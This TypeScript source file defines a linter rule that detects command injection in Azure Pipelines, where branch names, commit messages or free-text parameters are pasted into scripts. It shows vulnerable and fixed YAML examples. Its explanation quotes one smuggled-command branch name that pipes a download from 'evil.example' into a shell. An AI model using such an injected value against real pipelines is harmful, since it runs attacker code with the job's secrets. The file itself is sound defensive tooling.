import { rule } from '../../core/rule';
import { untrustedVariables } from '../../data/azure-untrusted-variables';
import { embeddedIn } from '../../formats/azure-pipelines/embedded';
import { pathOf } from '../../formats/azure-pipelines/expression';
import { macrosIn } from '../../formats/azure-pipelines/macros';
import type { Pipeline, Script } from '../../formats/azure-pipelines/model';
import { environmentFix, type Pasted } from '../../formats/azure-pipelines/to-environment';
import { scalar } from '../../formats/yaml';
import { locate } from '../../formats/yaml/locate';

interface Found extends Pasted {
  readonly writer: string;
  /** As it is written in a message. */
  readonly name: string;
  readonly severity: 'error' | 'warning';
}

export default rule({
  id: 'azure-pipelines/script-injection',
  title: 'Text of others pasted into a script',
  why: [
    '`$(name)` and `${{ … }}` are replaced before any shell sees the script. A branch named `x";curl${IFS}evil.example|sh;"` or a commit message with `$(…)` in it is then run, with the service connections and secrets of the job. The same goes for a parameter of free text: whoever may start the pipeline, but not change it, writes commands into it.',
    'In an environment variable the same text is only text: the shell reads it as one value and runs none of it. The agent hands each predefined variable to scripts that way already.',
  ],
  severity: 'error',
  practice: 'delivery',
  since: '0.1.0',
  fixes: ['safe', 'suggested'],
  equivalents: ['poutine:injection'],
  links: [
    'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs',
    'https://learn.microsoft.com/en-us/azure/devops/pipelines/build/variables',
  ],
  bad: [
    {
      title: 'the branch of a pull request',
      files:
        'trigger: none\npr: [main]\npool:\n  vmImage: ubuntu-24.04\nsteps:\n  - bash: |\n      echo "Branch «$(System.PullRequest.SourceBranch)»"\n      ./check --branch="$(System.PullRequest.SourceBranch)"\n  - pwsh: Write-Host "From «$(system.pullRequest.sourceBranch)»"\n',
      fixed:
        'trigger: none\npr: [main]\npool:\n  vmImage: ubuntu-24.04\nsteps:\n  - bash: |\n      echo "Branch $SYSTEM_PULLREQUEST_SOURCEBRANCH"\n      ./check --branch="$SYSTEM_PULLREQUEST_SOURCEBRANCH"\n  - pwsh: Write-Host "From ${env:SYSTEM_PULLREQUEST_SOURCEBRANCH}"\n',
    },
    {
      title: 'the message of a commit, without quotes, in a task',
      files:
        'trigger: [main]\nsteps:\n  - task: Bash@3\n    inputs:\n      targetType: inline\n      script: ./notify «$(Build.SourceVersionMessage)»\n',
      fixed:
        'trigger: [main]\nsteps:\n  - task: Bash@3\n    inputs:\n      targetType: inline\n      script: ./notify "$BUILD_SOURCEVERSIONMESSAGE"\n',
    },
    {
      title: 'a parameter that takes any text',
      files:
        'trigger: none\nparameters:\n  - name: imageTag\n    type: string\n    default: latest\nsteps:\n  - bash: docker build -t "shop:«${{ parameters.imageTag }}»" .\n',
      fixed:
        'trigger: none\nparameters:\n  - name: imageTag\n    type: string\n    default: latest\nsteps:\n  - bash: docker build -t "shop:$IMAGE_TAG" .\n    env:\n      IMAGE_TAG: ${{ parameters.imageTag }}\n',
    },
    {
      title: 'the command line of Windows has no variables that are only text',
      files:
        'trigger: none\npr: [main]\npool:\n  vmImage: windows-2025\nsteps:\n  - script: echo «$(System.PullRequest.SourceBranch)»\n',
    },
  ],
  good: [
    'trigger: none\npr: [main]\nsteps:\n  - bash: echo "$BRANCH"\n    env:\n      BRANCH: $(System.PullRequest.SourceBranch)\n',
    {
      title: 'numbers, names of our own, and values to choose from',
      files:
        'trigger: none\nparameters:\n  - name: environment\n    type: string\n    values: [test, production]\n  - name: count\n    type: number\n    default: 1\nsteps:\n  - bash: make deploy TO=${{ parameters.environment }} COUNT=${{ parameters.count }} RUN=$(Build.BuildId) PR=$(System.PullRequest.PullRequestNumber)\n',
    },
    {
      title: 'a template, whose callers know what they give',
      files: {
        'ci/build.yml':
          'parameters:\n  - name: target\n    type: string\nsteps:\n  - bash: make ${{ parameters.target }}\n',
      },
    },
    {
      title: 'no program',
      files:
        'trigger: none\npr: [main]\nsteps:\n  - task: PublishBuildArtifacts@1\n    displayName: Of $(System.PullRequest.SourceBranch)\n    inputs:\n      artifactName: $(System.PullRequest.SourceBranch)\n',
    },
    {
      title: 'no pull request starts it',
      files: 'trigger: [main]\npr: none\nsteps:\n  - bash: echo "$(System.PullRequest.SourceBranch)"\n',
    },
  ],
  *check({ pipeline, steps, file }) {
    if (!pipeline) return;
    for (const step of steps) {
      const { script } = step;
      if (!script || script.scalar.file !== file) continue;
      for (const found of [...fromVariables(script, pipeline), ...fromParameters(script, pipeline)]) {
        const [first, ...others] = found.places;
        if (!first) continue;
        const at = (place: typeof first) => locate(script.scalar, place.start, place.end);
        yield {
          at: at(first),
          severity: found.severity,
          message: `${found.writer} can run commands here: ${found.name} is pasted into the script`,
          fix: environmentFix(step, script, found),
          related: others.map((place) => ({ at: at(place), message: 'Pasted in here too' })),
        };
      }
    }
  },
});

/** Where `pr` is written, the repository lies at GitHub or Bitbucket, where strangers may ask for a pull. */
function* fromVariables({ scalar: { text } }: Script, { map: root }: Pipeline): Generator<Found> {
  const requests =
    scalar(root.get('pr'))?.text.toLowerCase() === 'none' ? 'none' : root.has('pr') ? 'foreign' : 'unknown';
  const macros = macrosIn(text);
  for (const [id, { name, variable, writer, isForeign }] of Object.entries(untrustedVariables)) {
    if (isForeign && requests === 'none') continue;
    const places = macros.filter((macro) => macro.name.toLowerCase() === id);
    const severity = isForeign && requests === 'foreign' ? 'error' : 'warning';
    if (places.length > 0) yield { places, name, variable, writer, severity, value: undefined };
  }
}

function* fromParameters({ scalar: code }: Script, { isRoot, parameters }: Pipeline): Generator<Found> {
  if (!isRoot) return;
  for (const { name, type, values, map: declared } of parameters ?? []) {
    if (!declared || type !== 'string' || values) continue;
    const places = embeddedIn(code).filter(
      ({ expression, directive }) =>
        expression && !directive && pathOf(expression) === `parameters.${name.toLowerCase()}`,
    );
    const [first] = places;
    if (!first) continue;
    yield {
      places,
      name: `parameters.${name}`,
      variable: upperSnake(name),
      value: `\${{ ${first.source} }}`,
      writer: 'Whoever may start the pipeline',
      severity: 'warning',
    };
  }
}

function upperSnake(name: string): string {
  return name
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .replace(/\W+/g, '_')
    .toUpperCase();
}
